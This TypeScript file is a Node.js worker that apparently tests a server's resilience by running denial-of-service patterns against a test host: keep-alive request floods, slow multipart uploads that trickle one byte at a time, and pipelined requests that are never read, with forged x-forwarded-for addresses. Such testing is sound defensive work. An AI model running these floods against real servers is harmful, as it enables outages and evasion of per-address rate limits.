import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";

/** Runs in its own process, so that the attacker's work does not delay the other visitors' clocks. */
export type Attack = { origin: string; seconds: number } & (
  | {
      kind: "read";
      method?: "GET" | "POST";
      paths: readonly string[];
      connections: number;
      headers: Record<string, string>;
    }
  | { kind: "trickle"; path: string; senders: readonly Record<string, string>[]; bodiesEach: number }
  | { kind: "never-read"; path: string; connections: number; requestsEach: number }
);

type Statuses = Record<string, number>;

const statuses: Statuses = {};
const count = (status: string | number | undefined) => {
  statuses[String(status)] = (statuses[String(status)] ?? 0) + 1;
};
const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** Sends one request after another on each connection. */
async function read(attack: Attack & { kind: "read" }): Promise<void> {
  const { origin, seconds, method = "GET", paths, connections, headers } = attack;
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const end = performance.now() + seconds * 1000;
  let next = 0;
  const send = (path: string) =>
    new Promise<void>((resolve) => {
      const sent = request(origin + path, { agent, method, headers }, (response) => {
        count(response.statusCode);
        response.resume().on("close", resolve);
      });
      sent.on("error", () => {
        count("broken");
        resolve();
      });
      sent.end();
    });
  const client = async () => {
    while (performance.now() < end) await send(paths[next++ % paths.length] ?? "/");
  };
  await Promise.all(Array.from({ length: connections }, client));
  agent.destroy();
}

function open(origin: string): Socket {
  const { hostname, port } = new URL(origin);
  return connect(Number(port), hostname).on("error", () => undefined);
}

const statusIn = (answer: Buffer) => /^HTTP\/1\.1 (\d+)/.exec(answer.toString("latin1"))?.[1];

/** Begins uploads and sends a byte now and then. */
async function trickle({ origin, seconds, path, senders, bodiesEach }: Attack & { kind: "trickle" }): Promise<void> {
  const bodies = senders.flatMap((headers) => Array.from({ length: bodiesEach }, () => headers));
  const sockets = bodies.map((headers) => {
    const socket = open(origin);
    let isAnswered = false;
    socket.on("data", (answer) => {
      if (!isAnswered) count(statusIn(answer));
      isAnswered = true;
    });
    const lines = [
      `POST ${path} HTTP/1.1`,
      "host: nexby.example",
      "content-type: multipart/form-data; boundary=b",
      "content-length: 1000000",
      ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    ];
    socket.write(`${lines.join("\r\n")}\r\n\r\n--b\r\n`);
    socket.write('content-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n');
    return socket;
  });
  for (let tick = 0; tick < seconds * 2; tick += 1) {
    await pause(500);
    for (const socket of sockets) if (socket.writable) socket.write("x");
  }
  for (const socket of sockets) socket.destroy();
}

/** Sends several requests on each connection and reads none of the answers. Each connection has its own address. */
async function neverRead(attack: Attack & { kind: "never-read" }): Promise<void> {
  const { origin, seconds, path, connections, requestsEach } = attack;
  const sockets = Array.from({ length: connections }, (_, number) => {
    const socket = open(origin);
    socket.pause();
    const text = `GET ${path} HTTP/1.1\r\nhost: nexby.example\r\nx-forwarded-for: 203.0.113.${number}\r\n\r\n`;
    socket.write(text.repeat(requestsEach));
    count("unread");
    return socket;
  });
  await pause(seconds * 1000);
  for (const socket of sockets) socket.destroy();
}

process.on("disconnect", () => process.exit());
process.once("message", async (attack: Attack) => {
  if (attack.kind === "read") await read(attack);
  else if (attack.kind === "trickle") await trickle(attack);
  else await neverRead(attack);
  process.send?.(statuses, undefined, undefined, () => process.exit());
});
process.send?.("ready");
